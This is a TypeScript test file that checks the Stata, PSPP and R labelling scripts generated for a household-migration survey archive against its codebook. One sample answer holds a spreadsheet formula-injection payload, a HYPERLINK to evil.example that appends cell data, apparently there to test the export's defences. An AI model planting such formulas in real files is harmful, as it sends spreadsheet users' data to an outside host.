/**
 * The archive's Stata, SPSS and R scripts. PSPP runs the .sps and R the R script on an
 * exported archive, and the labels are read back from what they made (the .sav files, the
 * data frames) and checked against the codebook; Stata is not installable, so the .do file
 * gets a test of its syntax and of every variable and value it labels.
 */
import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { forms } from '$lib/forms';
import { head2, household2, migrant2, restOfInterview, wife2 } from '$lib/forms/samples-v2';
import { archiveFiles } from './export-zip';
import { householdAnswers, sampleSubmission } from './testing';
import type { StoredSubmission } from './storage/types';
import { csvRecords, csvRows } from '../../../tests/support/csv';

/** Armenian and Cyrillic in one name, quotes too. */
const NAME = 'Արսեն "Ар" Петросян';

const submissions: StoredSubmission[] = [
	{
		...sampleSubmission(),
		formVersion: '2026-12-15',
		enumeratorId: 'e1',
		enumeratorSex: 'female',
		receivedAt: '2026-12-16T09:00:00Z',
		reviewState: 'received' as const,
		answers: household2({
			member: [head2({ m_name: NAME }), wife2(), migrant2(3)],
			...restOfInterview({ inc_sources: ['pension', 'wages'] }),
			h_notes: '=HYPERLINK("http://evil.example/?d="&A2,"open")'
		})
	},
	{
		...sampleSubmission({ answers: { ...householdAnswers(), resp_age: { special: 'refused' } } }),
		enumeratorId: null,
		enumeratorSex: null,
		receivedAt: '2026-12-16T10:00:00Z',
		reviewState: 'received' as const
	}
];
const options = { bom: true, splitMultiple: true, splitGeo: true, caucasusBarometerCodes: true };
const files = archiveFiles(forms, submissions, options);
const tables = [...files.keys()].filter((f) => f.endsWith('.csv') && f !== 'codebook.csv' && !f.endsWith('-audit.csv'));
const headerOf = (file: string) => csvRows(files.get(file)!.replace(/^\uFEFF/, ''))[0];
const codebook = csvRecords(files.get('codebook.csv')!.replace(/^\uFEFF/, ''));

/** The table a file belongs to, as the codebook names it. */
const tableOf = (file: string) =>
	file
		.replace(/\.csv$/, '')
		.replace(/-identifying$/, '')
		.replace(/^household_migration-?/, '') || 'household_migration';

/**
 * What the codebook says a variable's value labels are: code → English label (newest
 * wording), and how many values it lists without a code (an older version's value whose
 * code choiceCode finds elsewhere: the scripts label it with that code).
 */
function codebookValues(variable: string, table: string): { coded: Map<number, string>; uncoded: number } | undefined {
	const row = codebook.find((r) => r.variable === variable && r.table === table);
	if (!row?.value_names) return undefined;
	const pairs = row.values_en.split(/; (?=[\w-]+=)/).map((pair) => /^(-?\d+)=(.*)$/.exec(pair));
	return {
		coded: new Map(pairs.flatMap((m) => (m ? [[Number(m[1]), m[2].replace(/ \[.*\]$/, '')] as [number, string]] : []))),
		uncoded: pairs.filter((m) => !m).length
	};
}

/** The script's labels of the values (special codes aside) hold the codebook's coded ones, and a code for each uncoded one. */
function expectValues(script: Map<number, string>, variable: string, table: string, what: string) {
	const documented = codebookValues(variable, table)!;
	const values = new Map([...script].filter(([code]) => code >= 0));
	for (const [code, label] of documented.coded) expect(values.get(code), `${what} ${code}`).toBe(label);
	expect(values.size, what).toBe(documented.coded.size + documented.uncoded);
}

const SPECIALS = new Map([
	[-1, "Don't know"],
	[-2, 'Refused'],
	[-7, 'Legal skip'],
	[-9, 'Break-off']
]);

/** A variable as a statistics package read it back. */
interface ReadBack {
	label: string;
	values: Map<number, string>;
}

/** Checks what a package read back against the CSV headers and the codebook; returns how many coded variables it compared. */
function expectLabelled(read: Map<string, Map<string, ReadBack>>, what: string): number {
	let coded = 0;
	for (const file of tables) {
		const dataset = read.get(file);
		expect(dataset, `${what}: ${file}`).toBeDefined();
		expect([...dataset!.keys()], `${what}: ${file}`).toEqual(headerOf(file));
		for (const [name, v] of dataset!) {
			expect(v.label.length, `${what} ${file} ${name}`).toBeGreaterThan(0);
			expect(v.label.length, `${what} ${file} ${name}`).toBeLessThanOrEqual(80);
			const documented = codebook.find((r) => r.variable === name && r.table === tableOf(file));
			if (documented?.short_label) expect(v.label, `${what} ${file} ${name}`).toBe(documented.short_label);
			const values = codebookValues(name, tableOf(file));
			if (values && documented?.type.startsWith('select_one')) {
				expectValues(v.values, name, tableOf(file), `${what} ${file} ${name}`);
				for (const [code, label] of SPECIALS) expect(v.values.get(code), `${what} ${file} ${name} ${code}`).toBe(label);
				coded++;
			}
		}
	}
	return coded;
}

const has = (tool: string) => {
	try {
		execFileSync('sh', ['-c', `command -v ${tool}`]);
		return true;
	} catch {
		return false;
	}
};

function inArchiveFolder<T>(run: (dir: string) => T): T {
	const dir = mkdtempSync(join(tmpdir(), 'tun-export-'));
	try {
		for (const [name, text] of files) writeFileSync(join(dir, name), text);
		return run(dir);
	} finally {
		rmSync(dir, { recursive: true, force: true });
	}
}

describe('statistics scripts', () => {
	// PSPP and R are programs of their own: on a busy 2-core machine a run takes seconds.
	it('PSPP runs the .sps and its .sav files carry every variable label and the coded values of the codebook', { timeout: 60_000 }, () => {
		expect(has('pspp'), 'PSPP is needed: apt-get install pspp (.ci/run installs it)').toBe(true);
		inArchiveFolder((dir) => {
			const log = execFileSync('pspp', ['-O', 'format=csv', '-o', join(dir, 'run.csv'), 'household_migration.sps'], {
				cwd: dir,
				encoding: 'utf8'
			});
			expect(log).not.toMatch(/error|warning/i);
			const read = new Map<string, Map<string, ReadBack>>();
			for (const file of tables) {
				const sav = file.replace(/\.csv$/, '.sav');
				writeFileSync(join(dir, 'show.sps'), `SET TVARS=NAMES.\nGET FILE='${sav}'.\nDISPLAY DICTIONARY.\n`);
				const out = execFileSync('pspp', ['-O', 'format=csv', 'show.sps'], { cwd: dir, encoding: 'utf8' });
				const [variables, labels = ''] = out.split('Table: Value Labels');
				const dataset = new Map<string, ReadBack>();
				for (const row of parse(variables.split('Table: Variables')[1].trim(), {
					columns: true,
					relax_column_count: true,
					skip_empty_lines: true
				}) as Record<string, string>[]) {
					dataset.set(row.Name, { label: row.Label, values: new Map() });
				}
				let current = '';
				for (const [name, value, label] of parse(labels.trim(), {
					from_line: 2,
					relax_column_count: true,
					skip_empty_lines: true
				}) as string[][]) {
					current = name || current;
					dataset.get(current)!.values.set(Number(value), label);
				}
				read.set(file, dataset);
			}
			expect(expectLabelled(read, 'PSPP')).toBeGreaterThan(40);
			writeFileSync(join(dir, 'list.sps'), "GET FILE='household_migration.sav'.\nLIST /VARIABLES=resp_sex resp_age ReviewState.\n");
			const list = execFileSync('pspp', ['-O', 'format=csv', 'list.sps'], { cwd: dir, encoding: 'utf8' });
			expect(list).toContain('2,38,received');
			expect(list).toContain('2,-2,received');
		});
	});

	// PSPP and R are programs of their own: on a busy 2-core machine a run takes seconds.
	it(
		'R (base R only) sources the R script into data frames with every label, values read as numbers, text as typed',
		{ timeout: 60_000 },
		() => {
			expect(has('Rscript'), 'R is needed: apt-get install r-base-core (.ci/run installs it)').toBe(true);
			inArchiveFolder((dir) => {
				writeFileSync(
					join(dir, 'show.R'),
					[
						'source("household_migration.R")',
						'for (d in ls(pattern = "^household_migration")) { x <- get(d); for (n in names(x)) {',
						'  l <- attr(x[[n]], "label"); v <- attr(x[[n]], "labels")',
						'  cat(d, n, if (is.null(l)) "" else l, if (is.null(v)) "" else paste(paste0(v, "=", names(v)), collapse = "\\037"), class(x[[n]]), sep = "\\t"); cat("\\n") } }',
						'writeLines(enc2utf8(household_migration_member_identifying$m_name[1]), "name.txt", useBytes = TRUE)',
						'cat("resp_age", household_migration$resp_age, "\\n")'
					].join('\n')
				);
				const out = execFileSync('Rscript', ['show.R'], { cwd: dir, encoding: 'utf8' });
				const read = new Map<string, Map<string, ReadBack>>();
				const classes = new Map<string, string>();
				for (const line of out.split('\n').filter((l) => l.includes('\t'))) {
					const [frame, name, label, values, type] = line.split('\t');
					const file = `${frame
						.replace(/^household_migration_?/, 'household_migration-')
						.replace(/-$/, '')
						.replaceAll('_identifying', '-identifying')}.csv`;
					if (!read.has(file)) read.set(file, new Map());
					const pairs = values ? values.split('\x1f').map((p) => /^(-?\d+)=(.*)$/.exec(p)!) : [];
					read.get(file)!.set(name, { label, values: new Map(pairs.map((m) => [Number(m[1]), m[2]])) });
					classes.set(`${file}/${name}`, type);
				}
				expect(expectLabelled(read, 'R')).toBeGreaterThan(40);
				expect(classes.get('household_migration.csv/resp_sex')).toBe('numeric');
				expect(classes.get('household_migration.csv/KEY')).toBe('character');
				expect(out).toContain('resp_age 38 -2');
				expect(execFileSync('cat', [join(dir, 'name.txt')], { encoding: 'utf8' }).trim()).toBe(NAME);
			});
		}
	);

	it('the Stata .do file imports every CSV with each column typed once, and labels every variable and coded value', () => {
		const lines = files
			.get('household_migration.do')!
			.split('\n')
			.filter((l) => l && !l.startsWith('*'));
		const quoted = '`"(?:(?!"\')[^`$])*"\'';
		let file = '';
		let header: string[] = [];
		const labelled = new Set<string>();
		const defined = new Map<string, Map<number, string>>();
		const imported: string[] = [];
		const done = () => {
			if (!file) return;
			expect([...labelled], file).toEqual(header);
			for (const name of header) {
				const values = codebookValues(name, tableOf(file));
				const type = codebook.find((r) => r.variable === name && r.table === tableOf(file))?.type ?? '';
				if (values && type.startsWith('select_one')) expectValues(defined.get(name)!, name, tableOf(file), `${file} ${name}`);
			}
			labelled.clear();
			defined.clear();
		};
		for (const line of lines) {
			if (line === 'version 14' || line === 'set more off') continue;
			let m =
				/^import delimited using "([^"]+)", varnames\(1\) case\(preserve\) encoding\("utf-8"\) delimiters\(","\) bindquotes\(strict\)(?: stringcols\(([\d ]+)\))?(?: numericcols\(([\d ]+)\))? clear$/.exec(
					line
				);
			if (m) {
				done();
				file = m[1];
				imported.push(file);
				header = headerOf(file);
				const typed = [...(m[2] ?? '').split(' '), ...(m[3] ?? '').split(' ')]
					.filter(Boolean)
					.map(Number)
					.sort((a, b) => a - b);
				expect(typed, file).toEqual(header.map((_, i) => i + 1));
				continue;
			}
			m = new RegExp(`^label variable (\\w{1,32}) (${quoted})$`).exec(line);
			if (m) {
				expect(header, line).toContain(m[1]);
				expect(m[2].length - 4, line).toBeLessThanOrEqual(80);
				labelled.add(m[1]);
				continue;
			}
			m = new RegExp(`^label define (\\w{1,32}) ((?:-?\\d+ ${quoted} ?)+), replace$`).exec(line);
			if (m) {
				const pairs = [...m[2].matchAll(new RegExp(`(-?\\d+) \`"((?:(?!"')[^\`$])*)"'`, 'g'))].map(
					(p) => [Number(p[1]), p[2]] as [number, string]
				);
				defined.set(m[1], new Map(pairs));
				continue;
			}
			m = /^label values (\w{1,32}) (\w{1,32})$/.exec(line);
			if (m) {
				expect(m[1]).toBe(m[2]);
				expect(defined.has(m[2]), line).toBe(true);
				continue;
			}
			m = /^save "([^"]+)\.dta", replace$/.exec(line);
			if (m) {
				expect(`${m[1]}.csv`).toBe(file);
				continue;
			}
			throw new Error(`not a command the .do file should hold: ${line}`);
		}
		done();
		expect(imported.sort()).toEqual([...tables].sort());
	});

	it('no scripts when the cells hold labels; the scripts read a BOM only when the files have one', () => {
		expect([...archiveFiles(forms, submissions, { labels: 'en' }).keys()].filter((f) => /\.(do|sps|R)$/.test(f))).toEqual([]);
		expect(files.get('household_migration.R')).toContain('"UTF-8-BOM"');
		expect(archiveFiles(forms, submissions, {}).get('household_migration.R')).not.toContain('UTF-8-BOM');
	});
});
